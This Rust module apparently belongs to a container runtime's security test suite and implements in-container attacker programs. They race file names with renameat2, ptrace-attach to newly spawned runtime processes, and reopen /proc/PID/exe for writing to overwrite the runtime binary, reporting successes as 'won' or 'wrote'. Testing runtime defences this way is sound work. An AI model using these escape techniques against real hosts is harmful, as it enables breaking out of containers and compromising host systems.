//! Attacker programs in the container: verbs of `/bin/probe` that go on until a file is there.
//!
//! | call | does, and prints at its end |
//! |---|---|
//! | `probe swap-loop FILE A B MICROSECONDS` | exchanges A and B (renameat2(2)), and rests so long: `swaps N` |
//! | `probe watch-loop FILE` | looks at every new process by /proc/N/exe and traces it: a line `won …` for each that was the runtime's own, then `pids N`, `traced N` |
//! | `probe write-loop FILE` | keeps every new process's program by O_PATH and tries to write it, again and again: `caught: PID` at once, then `caught N`, `wrote N` |
//! | `probe look PID` | what it sees of a process (`self`): one JSON object (`attacker/look.rs`) |
//! | `probe stopper FILE WORDS NEEDLE…` | stops what is born, looks at it and attacks it (`attacker/stopper.rs`) |

#![allow(unsafe_code, reason = "ptrace(2) and renameat2(2), raw")]

mod inject;
mod look;
mod stopper;
mod take;

pub(super) use stopper::{attack, look_at, stopper};

use nix::fcntl::{OFlag, open};
use nix::sys::signal::{Signal, kill};
use nix::sys::stat::Mode;
use nix::unistd::Pid;
use std::collections::BTreeSet;
use std::ffi::CString;
use std::fs;
use std::os::fd::{AsRawFd, OwnedFd};
use std::path::Path;
use std::ptr::null_mut;
use std::time::Duration;

pub(super) fn swap_loop(file: &str, a: &str, b: &str, rest: &str) {
    let rest = Duration::from_micros(rest.parse().unwrap());
    let [a, b] = [a, b].map(|name| CString::new(name).unwrap());
    println!("swaps begin");
    let mut swaps = 0_u64;
    while !Path::new(file).exists() {
        // A look at the file in between would leave the names still for too long.
        for _ in 0..64 {
            // SAFETY: both strings end in NUL and outlive the call.
            let result = unsafe {
                libc::syscall(
                    libc::SYS_renameat2,
                    libc::AT_FDCWD,
                    a.as_ptr(),
                    libc::AT_FDCWD,
                    b.as_ptr(),
                    libc::RENAME_EXCHANGE,
                )
            };
            swaps += u64::from(result == 0);
            if !rest.is_zero() {
                std::thread::sleep(rest);
            }
        }
    }
    println!("swaps {swaps}");
}

/// The processes that the attacker sees.
fn pids() -> BTreeSet<i32> {
    let entries = fs::read_dir("/proc").unwrap().flatten();
    entries
        .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
        .collect()
}

/// What a process executes, where that is no program of the container's.
fn foreign_program(pid: i32) -> Option<String> {
    let program = fs::read_link(format!("/proc/{pid}/exe")).ok()?;
    let program = program.to_string_lossy().into_owned();
    (!program.starts_with("/bin/") && !makes_proc(pid)).then_some(program)
}

/// Whether it is the maker of a procfs context, which shows itself to its taker: with a filter for good, no memory
/// but its area, and no descriptor but the context of the container's own namespaces. It is killed at once, so it
/// may have ended since it was seen.
fn makes_proc(pid: i32) -> bool {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let state = super::field(&status, "State");
    if state.is_empty() || state.starts_with(['Z', 'X']) {
        return true;
    }
    let mut fds = fs::read_dir(format!("/proc/{pid}/fd"))
        .into_iter()
        .flatten();
    let is_context =
        |fd: std::io::Result<fs::DirEntry>| match fd.and_then(|fd| fs::read_link(fd.path())) {
            Ok(name) => name == Path::new("anon_inode:[fscontext]"),
            Err(_) => true,
        };
    super::field(&status, "Seccomp") == "2" && fds.all(is_context)
}

pub(super) fn watch_loop(file: &str) {
    let known = pids();
    println!("watches");
    let (mut seen, mut traced) = (BTreeSet::new(), BTreeSet::new());
    while !Path::new(file).exists() {
        for pid in pids().difference(&known) {
            seen.insert(*pid);
            if let Some(program) = foreign_program(*pid) {
                let fds = fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, Iterator::count);
                println!("won: the program of {pid} is {program:?}, with {fds} descriptors");
            }
            if trace(*pid) {
                traced.insert(*pid);
                if let Some(program) = foreign_program(*pid) {
                    println!("won: traced {pid}, which is {program:?}");
                }
                leave(*pid);
            }
        }
    }
    println!("pids {}", seen.len());
    println!("traced {}", traced.len());
}

fn trace(pid: i32) -> bool {
    // SAFETY: PTRACE_ATTACH takes no memory.
    if unsafe { libc::ptrace(libc::PTRACE_ATTACH, pid, null_mut::<u8>(), null_mut::<u8>()) } != 0 {
        return false;
    }
    let mut status = 0;
    // SAFETY: the kernel fills a live int.
    unsafe { libc::waitpid(pid, &raw mut status, libc::__WALL) };
    true
}

fn leave(pid: i32) {
    // SAFETY: PTRACE_DETACH takes no memory; the tracee has stopped.
    unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, null_mut::<u8>(), null_mut::<u8>()) };
    // Where it had stopped for another reason, the stop that tracing begins with is still to come.
    let _ = kill(Pid::from_raw(pid), Signal::SIGCONT);
}

pub(super) fn write_loop(file: &str) {
    println!("writes");
    let mut caught: Vec<(i32, OwnedFd)> = Vec::new();
    let mut wrote = BTreeSet::new();
    while !Path::new(file).exists() {
        for pid in pids() {
            if caught.iter().any(|(known, _)| *known == pid) || foreign_program(pid).is_none() {
                continue;
            }
            let program = format!("/proc/{pid}/exe");
            if let Ok(fd) = open(program.as_str(), OFlag::O_PATH, Mode::empty()) {
                println!("caught: {pid}");
                caught.push((pid, fd));
            }
        }
        for (pid, fd) in &caught {
            if overwrite(fd) {
                wrote.insert(*pid);
            }
        }
    }
    println!("caught {}", caught.len());
    println!("wrote {}", wrote.len());
}

/// Opens it again for writing, and writes a byte over its first.
pub(super) fn overwrite(caught: &OwnedFd) -> bool {
    reopened(caught).is_ok()
}

/// The same, with the kernel's answer.
pub(super) fn reopened(caught: &OwnedFd) -> nix::Result<()> {
    let path = format!("/proc/self/fd/{}", caught.as_raw_fd());
    let fd = open(path.as_str(), OFlag::O_WRONLY, Mode::empty())?;
    nix::unistd::write(&fd, b"X").map(drop)
}
